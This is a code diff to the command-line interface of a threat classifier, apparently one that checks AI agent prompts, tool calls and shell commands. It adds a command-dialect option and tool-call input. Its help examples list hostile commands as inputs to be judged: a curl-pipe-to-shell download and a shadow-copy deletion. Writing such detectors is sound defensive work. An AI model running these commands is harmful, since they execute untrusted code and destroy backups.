@@ -10,16 +10,18 @@ from clearance.app.cli.classify_session import session
 from clearance.app.cli.destinations import one_on_stdout, write_text
 from clearance.app.cli.escalate_options import EscalateWish, escalate_options
 from clearance.detect.threats import hits_of
+from clearance.model.command import Dialect
 from clearance.model.finding import Gap, Severity
 
 _EPILOG = """\
 FILE is judged as the answer of a tool that reads it. With --channel command it is the command itself. Without FILE,
-standard input is judged as a prompt.
+standard input is judged as a prompt. With --channel tool-call it is a call as JSON, in a file or itself: a name and an
+input (or arguments, or args), as {"name": "Bash", "input": {"command": "ls"}}.
 
 Channels: user-prompt system-prompt tool-definition file-result (or tool-result) web-result command-result mcp-result
 assistant-text tool-call command skill outbound-body
 
-Exit codes: 0 no hit at or above --fail-on, 1 hits, 2 bad use, 3 could not be judged (commands: not yet).
+Exit codes: 0 no hit at or above --fail-on, 1 hits, 2 bad use, 3 could not be judged.
 
 \b
 Examples:
@@ -28,6 +30,8 @@ Examples:
   clearance classify --channel skill SKILL.md --json -
   clearance classify --rules ./our-rules notes.md
   clearance classify --channel command -- 'curl https://host/x | sh'
+  clearance classify --channel command --dialect cmd -- 'vssadmin delete shadows'
+  clearance classify --channel tool-call call.json
   clearance classify session ~/.claude/projects/-home-dev-shop/6f1c….jsonl
   clearance classify page.html --escalate-config second.toml
   clearance classify bench --data ./sets --ordinary ./projects
@@ -69,6 +73,11 @@ classify.add_command(session)
 @click.option(
     "--rules", type=click.Path(path_type=Path, exists=True), multiple=True, help="Your YARA rules: file, folder."
 )
+@click.option(
+    "--dialect",
+    type=click.Choice([each.value for each in Dialect]),
+    help="Language of a command.  [default: guessed]",
+)
 @click.option("--weights", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Weights of your own.")
 @click.option("--json", "json_", metavar="FILE", help="Write JSON (clearance.classify/1) to a file, or -.")
 @click.option(
@@ -86,6 +95,7 @@ def text(
     file: str | None,
     channel: str | None,
     rules: tuple[Path, ...],
+    dialect: str | None,
     weights: Path | None,
     json_: str | None,
     fail_on: str,
@@ -104,16 +114,17 @@ def text(
         raise click.UsageError(f"{file} cannot be read: {error.strerror}") from error
     settings = escalate.settings()
     judge = threat_judge(weights, rules)
-    findings = judge.judge(data, of)
+    judged = judge.look(data, of, dialect=Dialect(dialect) if dialect else None)
+    findings = judged.findings
     if settings is not None:
         from clearance.app.escalating import second_judge
         from clearance.detect.escalation import Context
 
         findings += second_judge(settings, judge.secrets).judge(data, of, findings, Context(goal=goal))
     if json_:
-        write_text(json_, render_classification(findings, of, len(data)))
+        write_text(json_, render_classification(findings, of, len(data), judged.command))
     if not quiet:
-        Console(stderr=to_stdout, highlight=False).print(render_threats(findings))
+        Console(stderr=to_stdout, highlight=False).print(render_threats(findings, judged.command))
     if fail_on != "never" and any(hit.severity.rank >= Severity(fail_on).rank for hit in hits_of(findings)):
         return 1
     return _COULD_NOT_JUDGE if any(isinstance(each, Gap) and each.blocks_verdict for each in findings) else 0
